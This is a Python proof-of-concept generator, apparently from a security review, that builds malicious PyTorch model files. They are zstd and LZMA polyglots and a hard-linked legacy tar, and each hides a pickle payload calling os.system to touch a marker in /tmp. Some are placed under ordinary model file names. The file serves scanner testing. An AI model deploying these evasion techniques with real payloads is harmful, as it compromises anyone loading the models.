"""Review 38's files: bytes that one loader decompresses and another unpickles as they are, and a
torch pre-0.4 tar whose `storages` member is a hard link. Each payload only touches
/tmp/r38-pwned-<tag>. Usage: python gen.py [OUT_DIR] (default: ../malicious); load.py confirms."""
import io, lzma, os, struct, sys, tarfile, zipfile, zlib

out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "malicious")


def su(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def g(mod, name):  # GLOBAL
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def payload(tag):  # os.system("touch /tmp/r38-pwned-<tag>"), no PROTO
    return g("os", "system") + su(f"touch /tmp/r38-pwned-{tag}") + b"\x85R."


BENIGN = b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s."  # {'a': 1}


def zstd_raw_frame(data):
    # one raw block, the content size in one byte
    assert len(data) < 256
    return b"\x28\xb5\x2f\xfd" + bytes([0x20, len(data)]) + struct.pack("<I", (len(data) << 3) | 1)[:3] + data


def zstd_polyglot(tag):
    # skippable frame magic 0x184D2A56 = 'V' (UNICODE reads a line); its content: the rest of that
    # line, then POP and the payload; a zstd reader skips it and opens the benign frame after it
    content = b"\n0" + payload(tag)
    return b"\x56\x2a\x4d\x18" + struct.pack("<I", len(content)) + content + zstd_raw_frame(BENIGN)


def torch_zip(data_pkl):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in [("archive/data.pkl", data_pkl), ("archive/byteorder", "little"),
                           ("archive/version", "3\n"), ("archive/.data/serialization_id", "1234567890")]:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def vli(n):
    o = b""
    while n >= 0x80:
        o += bytes([n & 0x7F | 0x80])
        n >>= 7
    return o + bytes([n])


def xz_stored(data):
    # one xz stream: one block of one LZMA2 uncompressed chunk, check NONE
    flags = b"\x00\x00"
    hdr = b"\xfd7zXZ\x00" + flags + struct.pack("<I", zlib.crc32(flags))
    bh = b"\x02\x00" + b"\x21\x01\x00" + b"\x00\x00\x00"
    bh += struct.pack("<I", zlib.crc32(bh))
    block = bh + b"\x01" + struct.pack(">H", len(data) - 1) + data + b"\x00"
    unpadded = len(block)
    block += b"\x00" * (-len(block) % 4)
    idx = b"\x00" + vli(1) + vli(unpadded) + vli(len(data))
    idx += b"\x00" * (-len(idx) % 4)
    idx += struct.pack("<I", zlib.crc32(idx))
    bs = struct.pack("<I", len(idx) // 4 - 1) + flags
    return hdr + block + idx + struct.pack("<I", zlib.crc32(bs)) + bs + b"YZ"


def lzma_polyglot(tag):
    # LZMA "alone" with properties 0x49 = 'I' (INT: a text line, which C strtol ends at the NUL of
    # the dictionary size 0x30); the line runs on to the first newline, stored in an LZMA2
    # uncompressed chunk of a second (xz) stream: "\n0" + payload. Decompressed, the first stream's
    # BINSTRING swallows the second's bytes: a benign string.
    raw = b"\n0" + payload(tag)
    body = lzma.compress(b"\x80\x02T" + struct.pack("<I", len(raw)), format=lzma.FORMAT_RAW,
                         filters=[{"id": lzma.FILTER_LZMA1, "lc": 1, "lp": 3, "pb": 1, "dict_size": 4096}])
    data = b"\x49" + struct.pack("<I", 0x30) + b"\xff" * 8 + body + xz_stored(raw) + lzma.compress(b".")
    nl = data.index(b"\n")
    assert data[nl:nl + len(raw)] == raw, "a newline before the payload: change the padding"
    return data


def tar_hardlink_storages(tag):
    # torch's pre-0.4 tar reader extracts `storages`, a hard link to `x`: tarfile writes x's data
    # under that name. torch reads a count (1), (key, location, FloatStorage), an 8-byte element
    # count (0), then the storage views pickle: the payload.
    x = (b"\x80\x02K\x01."
         + b"\x80\x02" + sbu("0") + sbu("cpu") + g("torch", "FloatStorage") + b"\x87."
         + (0).to_bytes(8, "little")
         + b"\x80\x02" + payload(tag))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        def add(name, data):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
        add("x", x)
        ln = tarfile.TarInfo("storages")
        ln.type = tarfile.LNKTYPE
        ln.linkname = "x"
        t.addfile(ln)
        add("tensors", b"\x80\x02K\x00.")
        add("pickle", b"\x80\x02}.")
    return buf.getvalue()


FILES = {
    "review38-zstd_skippable_polyglot.bin": lambda: zstd_polyglot("zstd"),
    "review38-zstd_polyglot_datapkl.pt": lambda: torch_zip(zstd_polyglot("zstd-zip")),
    "review38-lzma_polyglot.pth.tar": lambda: lzma_polyglot("lzma"),
    "review38-tar_hardlink_storages.pt": lambda: tar_hardlink_storages("tar-link"),
}

if __name__ == "__main__":
    for name, make in FILES.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(make())
    # the three kinds in one model folder, as the reviewer left them
    folder = os.path.join(os.path.dirname(os.path.abspath(__file__)), "folder")
    os.makedirs(folder, exist_ok=True)
    for name, make in [("pytorch_model.bin", FILES["review38-zstd_skippable_polyglot.bin"]),
                       ("optimizer.pt", FILES["review38-tar_hardlink_storages.pt"]),
                       ("training_state.pth.tar", FILES["review38-lzma_polyglot.pth.tar"])]:
        with open(os.path.join(folder, name), "wb") as f:
            f.write(make())
    with open(os.path.join(folder, "config.json"), "w") as f:
        f.write('{"model_type": "gpt2"}\n')
